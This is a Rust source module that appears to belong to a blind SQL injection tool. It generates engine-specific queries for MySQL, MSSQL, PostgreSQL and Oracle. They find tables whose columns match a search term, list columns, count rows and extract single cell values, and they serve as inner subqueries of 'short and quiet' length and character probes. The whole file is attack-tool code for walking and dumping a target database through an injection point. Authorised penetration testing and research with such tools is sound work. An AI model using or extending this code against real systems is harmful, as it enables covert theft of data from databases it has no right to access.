//! Engine-specific schema queries.
//!
//! All single-row, single-column, usable as the inner subquery of a length
//! or character probe. Substring search uses plain `LIKE`, no regex, to
//! keep the probes short and quiet.

use crate::payloads::DatabaseKind;

/// Nth distinct table having a column whose name contains `term`.
pub fn table_at_offset(kind: DatabaseKind, term: &str, offset: usize) -> String {
    match kind {
        DatabaseKind::MySQL => format!(
            "SELECT table_name FROM (SELECT DISTINCT table_name FROM information_schema.columns WHERE table_schema=database() AND column_name LIKE '%{term}%' ORDER BY table_name) t LIMIT 1 OFFSET {offset}"
        ),
        DatabaseKind::MSSQL => format!(
            "SELECT table_name FROM (SELECT table_name, ROW_NUMBER() OVER (ORDER BY table_name) as rn FROM (SELECT DISTINCT table_name FROM INFORMATION_SCHEMA.COLUMNS WHERE table_schema NOT IN ('sys','INFORMATION_SCHEMA') AND column_name LIKE '%{term}%') t) x WHERE rn={}",
            offset + 1
        ),
        DatabaseKind::PostgreSQL => format!(
            "SELECT table_name FROM (SELECT DISTINCT table_name FROM information_schema.columns WHERE table_schema='public' AND column_name LIKE '%{term}%' ORDER BY table_name) t LIMIT 1 OFFSET {offset}"
        ),
        DatabaseKind::Oracle => format!(
            "SELECT table_name FROM (SELECT table_name, ROW_NUMBER() OVER (ORDER BY table_name) rn FROM (SELECT DISTINCT table_name FROM user_tab_columns WHERE column_name LIKE '%{term}%') t) WHERE rn={}",
            offset + 1
        ),
        DatabaseKind::Unknown => String::new(),
    }
}

/// Nth column of a table in ordinal order.
pub fn column_at_offset(kind: DatabaseKind, table: &str, offset: usize) -> String {
    match kind {
        DatabaseKind::MySQL => format!(
            "SELECT column_name FROM information_schema.columns WHERE table_schema=database() AND table_name='{table}' ORDER BY ordinal_position LIMIT 1 OFFSET {offset}"
        ),
        DatabaseKind::MSSQL => format!(
            "SELECT column_name FROM (SELECT column_name, ROW_NUMBER() OVER (ORDER BY ordinal_position) as rn FROM INFORMATION_SCHEMA.COLUMNS WHERE table_name='{table}') x WHERE rn={}",
            offset + 1
        ),
        DatabaseKind::PostgreSQL => format!(
            "SELECT column_name FROM information_schema.columns WHERE table_schema='public' AND table_name='{table}' ORDER BY ordinal_position LIMIT 1 OFFSET {offset}"
        ),
        DatabaseKind::Oracle => format!(
            "SELECT column_name FROM (SELECT column_name, ROW_NUMBER() OVER (ORDER BY column_id) rn FROM user_tab_columns WHERE table_name='{table}') WHERE rn={}",
            offset + 1
        ),
        DatabaseKind::Unknown => String::new(),
    }
}

/// Value of one cell: `column` of the Nth row of `table`.
pub fn cell_query(kind: DatabaseKind, table: &str, column: &str, row: usize) -> String {
    match kind {
        DatabaseKind::MySQL | DatabaseKind::PostgreSQL | DatabaseKind::Unknown => {
            format!("SELECT {column} FROM {table} LIMIT 1 OFFSET {row}")
        }
        DatabaseKind::MSSQL => format!(
            "SELECT {column} FROM (SELECT {column}, ROW_NUMBER() OVER (ORDER BY (SELECT NULL)) as rn FROM {table}) x WHERE rn={}",
            row + 1
        ),
        DatabaseKind::Oracle => format!(
            "SELECT {column} FROM (SELECT {column}, ROWNUM rn FROM {table}) WHERE rn={}",
            row + 1
        ),
    }
}

pub fn row_count_query(table: &str) -> String {
    format!("SELECT COUNT(*) FROM {table}")
}

pub fn column_count_query(kind: DatabaseKind, table: &str) -> String {
    match kind {
        DatabaseKind::MySQL => format!(
            "SELECT COUNT(*) FROM information_schema.columns WHERE table_schema=database() AND table_name='{table}'"
        ),
        DatabaseKind::MSSQL => {
            format!("SELECT COUNT(*) FROM INFORMATION_SCHEMA.COLUMNS WHERE table_name='{table}'")
        }
        DatabaseKind::PostgreSQL => format!(
            "SELECT COUNT(*) FROM information_schema.columns WHERE table_schema='public' AND table_name='{table}'"
        ),
        DatabaseKind::Oracle => {
            format!("SELECT COUNT(*) FROM user_tab_columns WHERE table_name='{table}'")
        }
        DatabaseKind::Unknown => String::new(),
    }
}
